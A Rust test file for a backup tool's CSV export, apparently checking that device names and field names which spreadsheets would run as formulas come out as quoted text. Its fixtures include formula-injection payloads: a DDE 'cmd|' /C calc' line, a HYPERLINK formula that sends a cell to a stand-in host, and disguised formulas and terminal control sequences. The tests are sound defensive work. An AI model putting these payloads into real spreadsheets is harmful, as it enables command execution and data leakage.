//! Tables for spreadsheets: no cell of one is run.

use crate::program::{Folder, expect_error, expect_output, reported_case, sample};
use serde_json::json;

/// The rows of a table, the names first.
fn rows(table: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(table.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// The table of the devices of an archive.
fn devices(archive: &str, more: &[&str]) -> String {
    let extract = ["backup", "extract", archive, "--section", "devices"];
    let table = ["--collection", "devices", "--format", "csv", "--output", "-"];
    expect_output(&[&extract[..], &table, more].concat(), 0)
}

/// An archive of devices.
fn archive_of(folder: &Folder, devices: &serde_json::Value) -> String {
    let section = json!({
        "schema_version": "1.0.0", "last_updated": "2026-01-19T10:00:00Z", "devices": devices,
    });
    std::fs::create_dir(folder.path("home")).unwrap();
    folder.file("home/devices.json", section.to_string());
    let archive = folder.path("home.sma");
    let create = ["backup", "create", "--type", "selective", "--from", &folder.path("home")];
    expect_output(&[&create[..], &["--output", &archive]].concat(), 0);
    archive
}

#[test]
fn names_that_a_spreadsheet_would_run_are_texts() {
    // Case 18.
    let rows = rows(&devices(&reported_case("18-formulas.sma"), &[]));
    let column = |name: &str| rows[0].iter().position(|it| it == name).unwrap();
    let names: Vec<&str> = rows[1..].iter().map(|row| &*row[column("name")]).collect();
    assert_eq!(
        names,
        [
            "'=cmd|' /C calc'!A0",
            r#"'=HYPERLINK("http://x.example/?"&A1,"x")"#,
            "'+491701234567",
            "'@SUM(1+1)",
            "Büro, \"A\"",
        ]
    );
}

#[test]
fn disguised_formulas_become_texts_and_numbers_stay_numbers() {
    let folder = Folder::new();
    let cells = [
        (json!("  =1+1"), "'  =1+1"),
        (json!("\t=1+1"), "'\t=1+1"),
        (json!("\r=1+1"), "'\r=1+1"),
        (json!("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0"),
        (json!("＝1+1"), "'＝1+1"),
        (json!("＠SUM(1)"), "'＠SUM(1)"),
        (json!(-63), "-63"),
        (json!(-63.5), "-63.5"),
        (json!("-63"), "-63"),
        (json!(1e21), "1e+21"),
        (json!(null), ""),
        (json!(["=1"]), "[\"=1\"]"),
        (json!("a=1"), "a=1"),
        (json!("line\nline"), "line\nline"),
        (json!("\u{1b}]0;title\u{7}\u{9b}m\u{202e}"), "\\u{1b}]0;title\\u{7}\\u{9b}m\\u{202e}"),
    ];
    let records: Vec<_> = cells
        .iter()
        .zip(1..)
        .map(|((value, _), id)| json!({"id": id, "=1+1": value, "@x\u{9b}": true, "rssi": -63}))
        .collect();
    let rows = rows(&devices(&archive_of(&folder, &json!(records)), &[]));
    let column = |name: &str| rows[0].iter().position(|it| it == name).unwrap();
    // Names of fields are texts of an archive, too.
    let (cell, mark, rssi) = (column("'=1+1"), column("'@x\\u{9b}"), column("rssi"));
    for (row, (_, expected)) in rows[1..].iter().zip(&cells) {
        assert_eq!((&*row[cell], &*row[mark], &*row[rssi]), (*expected, "true", "-63"));
    }
    assert_eq!(rows.len(), cells.len() + 1);
}

#[test]
fn a_byte_order_mark_is_written_on_request() {
    let archive = sample("1.0-tar-gzip.sma");
    let plain = devices(&archive, &[]);
    assert!(plain.starts_with("id,mac,"));
    assert_eq!(devices(&archive, &["--bom"]), format!("\u{feff}{plain}"));
    for format in ["json", "ndjson"] {
        let extract = ["backup", "extract", &archive, "--section", "devices", "--bom"];
        let message = expect_error(
            &[&extract[..], &["--collection", "devices", "--format", format, "--output", "-"]]
                .concat(),
            2,
        );
        assert!(message.contains("--bom has no effect without --format csv"), "{message}");
    }
}

#[test]
fn a_field_of_its_own_in_each_record_makes_no_table() {
    let folder = Folder::new();
    let device = |id: u32| {
        let mac = format!("A8032A{id:06X}");
        json!({"id": id, "mac": mac, "ip": "", "type": "A", "name": "x", format!("own {id}"): 1,
            "created_at": "2026-01-19T10:00:00Z", "updated_at": "2026-01-19T10:00:00Z"})
    };
    let wide: Vec<_> = (1..=300).map(device).collect();
    let archive = archive_of(&folder, &json!(wide));
    let table = ["--section", "devices", "--collection", "devices", "--output", "-"];
    let extract = [&["backup", "extract", &archive][..], &table].concat();
    let refusal = expect_error(&[&extract[..], &["--format", "csv"]].concat(), 1);
    assert!(refusal.contains("different fields") && refusal.contains("--format ndjson"));
    let lines = expect_output(&[&extract[..], &["--format", "ndjson"]].concat(), 0);
    assert_eq!(lines.lines().count(), 300);
}
